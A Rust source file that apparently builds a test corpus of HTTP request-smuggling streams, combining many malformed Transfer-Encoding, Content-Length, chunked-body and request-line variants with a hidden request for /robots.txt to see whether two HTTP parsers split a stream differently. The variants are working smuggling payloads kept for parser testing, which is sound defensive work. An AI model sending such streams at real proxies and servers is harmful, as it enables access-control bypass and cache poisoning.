//! The corpus: streams that two readers may divide differently, after RFC 9112 and the known attacks.
//!
//! What is smuggled is always a request for `/robots.txt`; what surrounds it asks for anything else. So whether it was
//! taken for a request of its own shows in the answers.

/// A stream of bytes, and what it may be taken for.
pub(crate) struct Attack {
    pub(crate) name: String,
    pub(crate) stream: Vec<u8>,
    /// Whether the smuggled request is one by itself by any reading of RFC 9112.
    pub(crate) pipelined: bool,
}

/// The request that must not be seen.
const HIDDEN: &str = "GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n";

/// Ways to write a transfer coding that a reader may overlook or make up.
const CODINGS: &[&str] = &[
    "Transfer-Encoding: chunked",
    "transfer-encoding: CHUNKED",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunkedx",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding\t: chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding: chunked\t ",
    "Transfer-Encoding: \u{b}chunked",
    "Transfer-Encoding: \u{c}chunked",
    "Transfer-Encoding: chunked\u{0}",
    "\u{0}Transfer-Encoding: chunked",
    " Transfer-Encoding: chunked",
    "\tTransfer-Encoding: chunked",
    "X: x\n Transfer-Encoding: chunked",
    "X: x\nTransfer-Encoding: chunked",
    "X: x\rTransfer-Encoding: chunked",
    "X: x\r\rTransfer-Encoding: chunked",
    "Transfer-Encoding\r\n : chunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding:\n chunked",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: 'chunked'",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding:",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer_Encoding: chunked",
    "Transfer-Encoding;: chunked",
    "Transfer-\u{17f}Encoding: chunked",
    "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
];

/// Lengths that a reader may take for five, for nothing or for none.
const LENGTHS: &[&str] = &[
    "Content-Length: 5\r\nContent-Length: 5",
    "Content-Length: 5\r\nContent-Length: 6",
    "Content-Length: 0\r\nContent-Length: 5",
    "Content-Length: 5, 5",
    "Content-Length: 5, 6",
    "Content-Length: +5",
    "Content-Length: -5",
    "Content-Length: 0x5",
    "Content-Length: 5 5",
    "Content-Length: 05",
    "Content-Length: 5\u{b}",
    "Content-Length: 5e0",
    "Content-Length: 5.0",
    "Content-Length: \"5\"",
    "Content-Length: 18446744073709551621",
    "Content-Length:",
    "Content-Length : 5",
    " Content-Length: 5",
    "Content-Length\u{0}: 5",
    "Content-Length:\r\n 5",
    "X: x\nContent-Length: 5",
    "X: x\rContent-Length: 5",
    "Content_Length: 5",
    "Connection: Content-Length\r\nContent-Length: 5",
    "Connection: close, Content-Length\r\nContent-Length: 5",
    "Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: 5",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: 5",
    "Expect: 100-continue\r\nContent-Length: 5",
    "Expect: 100-continue, x\r\nContent-Length: 5",
    "Expect: 200-ok\r\nContent-Length: 5",
];

/// Chunked bodies that a reader may end early or late.
const CHUNKS: &[&str] = &[
    "5\r\nhello\r\n0\r\n\r\n",
    "5;a=b\r\nhello\r\n0;c\r\n\r\n",
    "5;a=\"\r\n\"\r\nhello\r\n0\r\n\r\n",
    "5;a\nhello\r\n0\r\n\r\n",
    "5;\n2\r\nhello\r\n0\r\n\r\n",
    "5 ;a\r\nhello\r\n0\r\n\r\n",
    "5 \r\nhello\r\n0\r\n\r\n",
    " 5\r\nhello\r\n0\r\n\r\n",
    "5\nhello\n0\n\n",
    "5\r\nhello\r\n0\n\n",
    "5\r\nhello\r\n0\r\n\n",
    "5\r\nhello\n0\r\n\r\n",
    "5\r\nhello0\r\n\r\n",
    "5\rhello\r\n0\r\n\r\n",
    "3\r\nhello\r\n0\r\n\r\n",
    "+5\r\nhello\r\n0\r\n\r\n",
    "0x5\r\nhello\r\n0\r\n\r\n",
    "5_\r\nhello\r\n0\r\n\r\n",
    "-1\r\nhello\r\n0\r\n\r\n",
    "\r\n5\r\nhello\r\n0\r\n\r\n",
    ";a\r\nhello\r\n0\r\n\r\n",
    "00000000000000000000005\r\nhello\r\n0\r\n\r\n",
    "10000000000000005\r\nhello\r\n0\r\n\r\n",
    "FFFFFFFFFFFFFFFF\r\nhello\r\n0\r\n\r\n",
    "FFFFFFFFFFFFFFFFF\r\nhello\r\n0\r\n\r\n",
    "5\u{0}\r\nhello\r\n0\r\n\r\n",
    "0\r\nX: y\r\n\r\n",
    "0\r\nX: y\n\r\n",
    "0\r\nContent-Length: 5\r\n\r\n",
    "0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "0\r\n X: y\r\n\r\n",
    "0\r\n: y\r\n\r\n",
    "0\r\nHost: y\r\nX\r\n\r\n",
    "0\r\r\n\r\n",
    "0\r\n\r",
];

/// Heads that a reader may take for none, for two, or for another.
const HEADS: &[&str] = &[
    "GET /healthz HTTP/1.1\nHost: x\n\n",
    "GET /healthz HTTP/1.1\nHost: x\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\n\n",
    "GET /healthz HTTP/1.1\rHost: x\r\r",
    "\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "\r\n\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "\n\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    " GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "\rGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET /healthz\r\n",
    "GET /healthz\r\n\r\n",
    "GET /healthz HTTP/0.9\r\n\r\n",
    "GET /healthz HTTP/1.0\r\n\r\n",
    "GET /healthz HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
    "POST /healthz HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST /healthz HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    "GET /healthz HTTP/1.2\r\nHost: x\r\n\r\n",
    "GET /healthz HTTP/2.0\r\nHost: x\r\n\r\n",
    "GET /healthz HTTP/11\r\nHost: x\r\n\r\n",
    "GET /healthz http/1.1\r\nHost: x\r\n\r\n",
    "GET /healthz HTTP/1.1 \r\nHost: x\r\n\r\n",
    "GET  /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET\t/healthz\tHTTP/1.1\r\nHost: x\r\n\r\n",
    "GET /healthz HTTP/1.1 GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET /healthz /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "GET http://x/healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET http://y/healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET //x/healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET /healthz#/robots.txt HTTP/1.1\r\nHost: x\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
    "CONNECT x:80 HTTP/1.1\r\nHost: x:80\r\n\r\n",
    "GET /healthz HTTP/1.1\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x y\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\nX: a\u{0}b\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\nX\u{0}: a\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\nX: a\r\n b\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\nX: a\r\n\tb\r\n\r\n",
    "GET /healthz HTTP/1.1\r\n Host: x\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\nX\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\n: x\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\nX: a\rb\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\nX: \u{7f}\r\n\r\n",
    "GET /healthz HTTP/1.1\r\nHost: x\r\nX x: a\r\n\r\n",
    "get /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "G(T /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
];

/// Every attack.
pub(crate) fn all() -> Vec<Attack> {
    let mut all = Vec::new();
    for coding in CODINGS {
        // Another header's name: what follows the head is the next request.
        let unknown = coding.contains('_');
        let behind = format!("0\r\n\r\n{HIDDEN}");
        let length = behind.len();
        let inside = format!("{:x}\r\n{HIDDEN}\r\n0\r\n\r\n", HIDDEN.len());
        add(
            &mut all,
            coding,
            post(&format!("Content-Length: {length}\r\n{coding}"), &behind),
            false,
        );
        add(
            &mut all,
            coding,
            post(&format!("{coding}\r\nContent-Length: 4"), &inside),
            unknown,
        );
        add(&mut all, coding, post(coding, &inside), false);
    }
    for length in LENGTHS {
        add(&mut all, length, post(length, &format!("hello{HIDDEN}")), true);
        add(&mut all, length, post(length, HIDDEN), length.contains('_'));
        let get = format!("GET /healthz HTTP/1.1\r\nHost: x\r\n{length}\r\n\r\nhello{HIDDEN}");
        add(&mut all, length, get, true);
    }
    for chunks in CHUNKS {
        let stream = post("Transfer-Encoding: chunked", &format!("{chunks}{HIDDEN}"));
        add(&mut all, chunks, stream, true);
    }
    for head in HEADS {
        add(&mut all, head, (*head).to_owned(), false);
        add(&mut all, head, format!("{head}{HIDDEN}"), true);
    }
    all
}

fn post(lines: &str, body: &str) -> String {
    format!("POST /healthz HTTP/1.1\r\nHost: x\r\n{lines}\r\n\r\n{body}")
}

fn add(all: &mut Vec<Attack>, name: &str, stream: String, pipelined: bool) {
    all.push(Attack {
        name: format!("{}: {:?}", all.len(), name),
        stream: stream.into_bytes(),
        pipelined,
    });
}
